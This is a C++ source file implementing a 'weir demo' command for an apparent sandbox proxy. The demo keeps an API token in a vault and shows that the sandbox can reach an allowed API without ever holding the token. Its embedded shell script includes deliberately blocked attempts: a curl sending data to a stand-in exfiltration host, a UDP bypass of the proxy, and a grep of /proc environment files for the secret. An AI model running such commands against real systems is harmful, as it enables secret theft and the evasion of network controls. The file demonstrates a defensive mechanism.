// `weir demo`: the whole path on one machine, without the internet. A local HTTPS API wants a token; the token goes into
// an embedded vault; curl in a sandbox gets 200 without having it; what the policy does not allow is shown to fail.
#include <sys/wait.h>
#include <unistd.h>

#include <cstdio>
#include <filesystem>

#include "base/encoding.h"
#include "base/file.h"
#include "cli/demo/demo_api.h"
#include "cli/verbs.h"
#include "vault/embedded_store.h"

namespace weir::cli {
namespace {

constexpr const char* kHost = "api.demo.example";

constexpr const char* kScript = R"(
show() { printf '\n\033[1m%s\033[0m\n\033[2m$ %s\033[0m\n' "$1" "$2"; eval "$2"; }
show 'An allowed request: the API wants a token, and the sandbox has none' \
     "curl -sS -w '→ %{http_code}\n' https://api.demo.example/v1/things"
show 'Is the token anywhere in here?' \
     'printf %s "$A$B" | grep -rlsaf - /proc/[0-9]*/environ /proc/[0-9]*/cmdline . /run /tmp "$HOME" | wc -l'
show 'A method that the policy does not allow' \
     "curl -sS -X DELETE -w '→ %{http_code}\n' https://api.demo.example/v1/things"
show 'A host that the policy does not allow' \
     "curl -sS https://exfiltration.example/?data=secret"
show 'Around the proxy over UDP' \
     "bash -c 'echo hello > /dev/udp/203.0.113.9/9999'"
show 'Straight to an IP address' \
     "curl -sS -m 5 -w '→ %{http_code}\n' http://203.0.113.9/"
exit 0
)";

class TemporaryFolder {
 public:
  TemporaryFolder() {
    char name[] = "/tmp/weir-demo-XXXXXX";
    if (const char* made = mkdtemp(name); made != nullptr) path_ = made;
  }
  ~TemporaryFolder() {
    std::error_code error;
    if (!path_.empty()) std::filesystem::remove_all(path_, error);
  }
  TemporaryFolder(const TemporaryFolder&) = delete;
  TemporaryFolder& operator=(const TemporaryFolder&) = delete;
  const std::string& path() const { return path_; }

 private:
  std::string path_;
};

void heading(const char* text) {
  std::printf("\n\033[1;36m── %s\033[0m\n", text);
  std::fflush(stdout);
}

// Runs this program again; its exit status.
int run_self(const std::vector<std::string>& arguments) {
  std::vector<std::string> all{"weir"};
  all.insert(all.end(), arguments.begin(), arguments.end());
  std::vector<char*> argv;
  for (auto& argument : all) argv.push_back(argument.data());
  argv.push_back(nullptr);
  const pid_t pid = fork();
  if (pid == 0) {
    execv("/proc/self/exe", argv.data());
    _exit(127);
  }
  int status = 0;
  waitpid(pid, &status, 0);
  return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

Result<int> demonstrate() {
  const TemporaryFolder folder;
  if (folder.path().empty()) return fail("demo_failed", "cannot make a folder under /tmp");
  const std::string project = folder.path() + "/project";
  if (auto made = make_directories(project, 0700); !made) return std::unexpected(made.error());
  // The demonstration leaves the user's own vault, policy and sessions alone.
  setenv("XDG_STATE_HOME", (folder.path() + "/state").c_str(), 1);
  setenv("XDG_DATA_HOME", (folder.path() + "/data").c_str(), 1);
  setenv("XDG_CONFIG_HOME", (folder.path() + "/config").c_str(), 1);
  for (const char* name : {"/state/weir", "/data/weir", "/config/weir"})
    if (auto made = make_directories(folder.path() + name, 0700); !made) return std::unexpected(made.error());

  // The beginning of the token is told to the sandbox in two halves, so that it can look for it without having it.
  const std::string prefix = "tok_" + hex_encode(random_bytes(3));
  const std::string token = prefix + hex_encode(random_bytes(12));
  auto api = DemoApi::start(kHost, token);
  if (!api) return std::unexpected(api.error());
  auto store = vault::EmbeddedStore::create(vault::default_paths(), vault::Protection::kKeyFile, {});
  if (!store) return std::unexpected(store.error());
  if (auto set = store->set("demo-token", Secret(token)); !set) return std::unexpected(set.error());

  if (auto written = replace_file(folder.path() + "/ca.pem", api->ca_certificate_pem(), 0600); !written) return std::unexpected(written.error());
  const std::string policy = std::string("version: 1\ncredentials:\n  demo-token:\n    from: store:demo-token\n    hosts: [") + kHost +
                             "]\n    inject: {header: Authorization, format: \"Bearer {secret}\"}\nrules:\n  - name: read things\n    hosts: [" + kHost +
                             "]\n    methods: [GET]\n    paths: [\"/v1/**\"]\nupstream:\n  ca_file: ca.pem\n  resolve: {" + kHost + ": \"127.0.0.1:" +
                             std::to_string(api->port()) + "\"}\n";
  const std::string policy_file = folder.path() + "/policy.yaml";
  if (auto written = replace_file(policy_file, policy, 0600); !written) return std::unexpected(written.error());

  heading("The policy (the token itself is in the vault)");
  std::fputs(policy.c_str(), stdout);
  heading("In the sandbox");
  std::error_code error;
  std::filesystem::current_path(project, error);
  const int ran = run_self({"run", "--policy", policy_file, "--env", "A=" + prefix.substr(0, 7), "--env", "B=" + prefix.substr(7), "--", "sh", "-c", kScript});
  if (ran != 0) return fail("demo_failed", "the sandbox ended with status " + std::to_string(ran) + "; `weir doctor` tells what this host lacks");
  heading("What the event log says (weir log)");
  if (const int shown = run_self({"log"}); shown != 0) return shown;
  heading("And whether anybody changed it (weir log verify)");
  return run_self({"log", "verify"});
}

}  // namespace

void add_demo(CLI::App& app, int& status) {
  auto* verb = app.add_subcommand("demo", "Show the whole path on this machine, without the internet");
  verb->callback([&status] {
    const auto done = demonstrate();
    status = done ? *done : complain(done.error().message);
  });
}

}  // namespace weir::cli
